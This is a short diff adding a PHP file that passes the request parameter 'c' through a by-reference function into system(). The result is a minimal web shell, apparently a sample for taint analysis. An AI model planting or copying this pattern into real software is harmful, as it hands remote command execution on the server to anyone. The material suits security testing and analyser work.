@@ -1,0 +1,4 @@
+<?php
+function f(&$o) { $o = $_GET["c"]; }
+f($x);
+system($x);
